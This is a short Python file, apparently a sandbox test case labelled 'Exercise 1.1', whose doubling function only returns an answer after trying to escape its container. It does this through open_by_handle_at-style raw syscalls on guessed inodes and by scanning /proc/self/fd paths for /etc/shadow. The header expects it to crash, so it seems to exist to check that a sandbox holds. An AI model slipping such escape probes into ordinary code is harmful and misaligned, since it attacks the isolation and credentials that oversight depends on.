# tries: open_by_handle_at, name_to_handle_at and openat below descriptors of other roots
# expects: crashed

# Exercise 1.1
import ctypes
import os
import struct

_libc = ctypes.CDLL(None, use_errno=True)


def double(x):
    for inode in (2, 128, 256, 1):
        handle = ctypes.create_string_buffer(struct.pack("<Ii", 8, 1) + struct.pack("<II", inode, 0) + bytes(64))
        for folder in ("/", "/usr", "/tmp", "/proc"):
            fd = os.open(folder, os.O_RDONLY)
            for number in (304, 265):
                opened = _libc.syscall(number, fd, handle, os.O_RDONLY)
                if opened > 2:
                    return 2 * x
            os.close(fd)
    for fd in range(256):
        try:
            if "shadow" in os.listdir(f"/proc/self/fd/{fd}/../etc"):
                return 2 * x
        except OSError:
            pass
    raise LookupError("no handle opens anything")
